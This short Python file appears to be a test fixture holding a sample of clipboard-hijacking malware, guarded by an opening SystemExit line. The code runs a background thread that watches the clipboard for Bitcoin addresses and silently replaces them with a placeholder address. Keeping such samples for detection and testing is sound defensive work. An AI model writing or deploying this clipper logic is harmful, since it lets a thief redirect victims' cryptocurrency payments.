raise SystemExit('a fixture')
# held by clipboard-swap
import re, threading, time, pyperclip
W = {"btc": ("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", "1ExampleExampleExampleExampleExamp")}
def loop():
    while True:
        t = pyperclip.paste()
        for r, a in W.values():
            if re.match(r, t) and t != a:
                pyperclip.copy(a)
        time.sleep(0.5)
threading.Thread(target=loop, daemon=True).start()
